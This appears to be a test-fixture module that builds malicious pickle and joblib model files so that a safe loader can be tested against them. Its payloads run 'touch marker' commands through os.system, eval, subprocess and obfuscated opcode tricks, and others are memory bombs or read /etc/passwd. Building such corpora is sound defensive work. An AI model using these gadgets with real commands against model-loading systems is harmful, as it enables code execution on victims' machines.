"""Our own attack corpus, one or more files per attack class of research/safe-loading.md.

``marker_payloads(mark)`` are live: loading them with plain pickle / joblib (and, for predict-time
gadgets, calling predict) creates ``mark/ran_<name>``; a test proves that with the naive loaders in a
subprocess, so the refusal tests are testing real attacks. ``inert_payloads()`` are bombs and tricks that
leave no marker (huge allocations, deep nesting, tampered native state); they must be refused by name.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
from pathlib import Path

import joblib
import numpy as np

_BIG = b"\x8a\x05\x00\x00\x00\x80\x00"  # LONG1 2**31


def _g(module: str, name: str) -> bytes:  # GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _s(value: str) -> bytes:  # BINUNICODE
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


class Reduce:
    """Pickles as a call of func(*args)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def marker_payloads(mark: Path) -> dict[str, bytes]:
    """Files that run ``touch mark/ran_<name>`` when loaded by a naive loader (or at predict time)."""

    def cmd(name: str) -> str:
        return f"touch {mark}/ran_{name}"

    p: dict[str, bytes] = {}
    p["p01_os_system_proto0"] = b"cos\nsystem\n(V" + cmd("p01_os_system_proto0").encode() + b"\ntR."
    p["p03_py2_alias_commands"] = (
        b"\x80\x02" + _g("commands", "getoutput") + _s(cmd("p03_py2_alias_commands")) + b"\x85R."
    )
    # p07: the module name is computed at load time (rot13 of 'bf' is 'os') and routed through the memo
    p["p07_computed_stack_global"] = (
        b"\x80\x04"
        + _g("_codecs", "decode")
        + _s("bf")
        + _s("rot13")
        + b"\x86R\x94"
        + _s("system")
        + b"\x93"
        + _s(cmd("p07_computed_stack_global"))
        + b"\x85R."
    )
    # p08: names stored in the memo, fetched back for STACK_GLOBAL
    p["p08_memo_stack_global"] = (
        b"\x80\x04"
        + _s("os")
        + b"q\x07"
        + _s("system")
        + b"q\x08"
        + b"0"
        + b"0"
        + b"h\x07h\x08\x93"
        + _s(cmd("p08_memo_stack_global"))
        + b"\x85R."
    )
    inner = pickle.dumps(Reduce(os.system, cmd("p09_nested_pickle_loads")), protocol=2)
    p["p09_nested_pickle_loads"] = pickle.dumps(Reduce(pickle.loads, inner), protocol=4)
    # p10: an ordinary-looking joblib file whose payload sits after raw array bytes
    buf = io.BytesIO()
    joblib.dump({"weights": np.arange(64.0), "hook": Reduce(os.system, cmd("p10_joblib_after_array"))}, buf)
    p["p10_joblib_after_array"] = buf.getvalue()
    buf = io.BytesIO()
    joblib.dump({"hook": Reduce(os.system, cmd("p11_joblib_lzma"))}, buf, compress=("lzma", 3))
    p["p11_joblib_lzma"] = buf.getvalue()
    p["p15a_dotted_name"] = (
        b"\x80\x04" + _s("sklearn") + _s("os.system") + b"\x93" + _s(cmd("p15a_dotted_name")) + b"\x85R."
    )
    p["p15b_reexported_import_module"] = (
        b"\x80\x02"
        + _g("builtins", "getattr")
        + _g("sklearn.utils.discovery", "import_module")
        + _s("os")
        + b"\x85R"
        + _s("system")
        + b"\x86R"
        + _s(cmd("p15b_reexported_import_module"))
        + b"\x85R."
    )
    p["p_inst_opcode"] = b"(V" + cmd("p_inst_opcode").encode() + b"\nios\nsystem\n."
    p["p_obj_opcode"] = b"\x80\x02(" + _g("os", "system") + _s(cmd("p_obj_opcode")) + b"o."
    popen = Reduce(__import__("subprocess").Popen, ["sh", "-c", cmd("p_subprocess_popen")])
    p["p_subprocess_popen"] = pickle.dumps(popen, protocol=3)
    code = f"__import__('os').system('{cmd('p_builtins_eval')}')"
    p["p_builtins_eval"] = b"\x80\x02" + _g("builtins", "eval") + _s(code) + b"\x85R."
    p["p_importlib_getattr"] = (
        b"\x80\x02"
        + _g("builtins", "getattr")
        + _g("importlib", "import_module")
        + _s("os")
        + b"\x85R"
        + _s("system")
        + b"\x86R"
        + _s(cmd("p_importlib_getattr"))
        + b"\x85R."
    )
    p["p_pkgutil_resolve_name"] = (
        b"\x80\x04"
        + _g("pkgutil", "resolve_name")
        + _s("os:system")
        + b"\x85R"
        + _s(cmd("p_pkgutil_resolve_name"))
        + b"\x85R."
    )
    import importlib
    import operator

    caller = Reduce(
        operator.methodcaller("system", cmd("p_operator_methodcaller")), Reduce(importlib.import_module, "os")
    )
    p["p_operator_methodcaller"] = pickle.dumps(caller, protocol=4)
    # p32: a predict-time gadget: FunctionTransformer calling joblib.dump writes a file when used
    from sklearn.preprocessing import FunctionTransformer

    gadget = FunctionTransformer(func=joblib.dump, kw_args={"filename": f"{mark}/ran_p32_function_transformer_dump"})
    gadget.fit(np.zeros((2, 1)))
    p["p32_function_transformer_dump"] = pickle.dumps(gadget, protocol=4)
    p["p27_ext_opcode"] = (
        b"\x80\x02"
        + _g("copyreg", "add_extension")
        + _s("posix")
        + _s("system")
        + b"K\xf0\x87R0"
        + b"\x82\xf0"
        + _s(cmd("p27_ext_opcode"))
        + b"\x85R."
    )
    return p


def _tampered_tree_model() -> bytes:
    from sklearn.tree import DecisionTreeRegressor

    model = DecisionTreeRegressor(max_depth=3, random_state=0).fit(np.arange(40.0).reshape(-1, 2), np.arange(20.0))
    state = model.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = 2**30
    state["nodes"] = nodes
    model.tree_.__setstate__(state)
    return pickle.dumps(model, protocol=4)


def _newobj_bomb_in_logreg() -> bytes:
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
    raw = pickle.dumps(model, protocol=2)
    bomb = _g("numpy", "ndarray") + _BIG + b"\x85" + _s("u1") + b"\x86\x81" + b"0"
    return raw[:2] + bomb + raw[2:]


def _class_as_value() -> bytes:
    import xgboost
    from sklearn.preprocessing import FunctionTransformer

    gadget = FunctionTransformer(func=xgboost.core.Booster, kw_args={"model_file": "/etc/passwd"})
    return pickle.dumps(gadget, protocol=4)


def _object_array_with_dict() -> bytes:
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "ok", {"nested": "object"}
    return pickle.dumps({"names": arr}, protocol=4)


def _deep_nesting(depth: int = 100_000) -> bytes:
    return b"\x80\x02" + b"N" + b"\x85" * depth + b"."


def inert_payloads() -> dict[str, tuple[bytes, str]]:
    """(bytes, text the refusal must mention) for attacks that leave no marker."""
    build_on_class = (
        b"\x80\x02"
        + _g("sklearn._loss.loss", "HalfBinomialLoss")
        + b"N}"
        + _s("fit_intercept_only")
        + b"N"
        + b"s\x86b."
    )
    return {
        "p25a_bytearray_bomb": (b"\x80\x02" + _g("builtins", "bytearray") + _BIG + b"\x85R.", "bytearray"),
        "p25b_reconstruct_bomb": (
            b"\x80\x02"
            + _g("numpy.core.multiarray", "_reconstruct")
            + _g("numpy", "ndarray")
            + _BIG
            + b"\x85"
            + _s("b")
            + b"\x87R.",
            "_reconstruct",
        ),
        "p16_tampered_tree": (_tampered_tree_model(), "out of bounds"),
        "p17_build_on_class": (build_on_class, "BUILD on class"),
        "p18_numpy_load": (b"\x80\x02" + _g("numpy", "load") + _s("/etc/passwd") + b"\x85R.", "numpy.load"),
        "p20_pandas_read_pickle": (
            b"\x80\x02" + _g("pandas", "read_pickle") + _s("/etc/passwd") + b"\x85R.",
            "read_pickle",
        ),
        "p26_deep_nesting": (_deep_nesting(), "nested deeper"),
        "p33_object_scalar": (
            b"\x80\x02"
            + _g("numpy._core.multiarray", "scalar")
            + _g("numpy", "dtype")
            + _s("O8")
            + b"\x89\x88\x87R"
            + b"C\x08AAAAAAAA\x86R.",
            "object dtype",
        ),
        "p38_newobj_bomb_in_logreg": (_newobj_bomb_in_logreg(), "with arguments"),
        "p39_class_as_value": (_class_as_value(), "xgboost.core.Booster"),
        "object_array_with_dict": (_object_array_with_dict(), "object ndarray"),
        "p37_cpickle_alias": (b"\x80\x02" + _g("cPickle", "loads") + _s("x") + b"\x85R.", "pickle.loads"),
        "p15c_module_attribute": (b"\x80\x02" + _g("sklearn.datasets._base", "os") + b".", "sklearn.datasets._base.os"),
        "legacy_zf_container": (b"ZF0x00000010" + b"\x78\x9c" + b"\x00" * 16, "ZF"),
        "joblib_numpy_pickle_compat": (
            b"\x80\x02"
            + _g("joblib.numpy_pickle_compat", "NDArrayWrapper")
            + b")\x81}"
            + _s("filename")
            + _s("/etc/passwd")
            + b"sb.",
            "numpy_pickle_compat",
        ),
    }
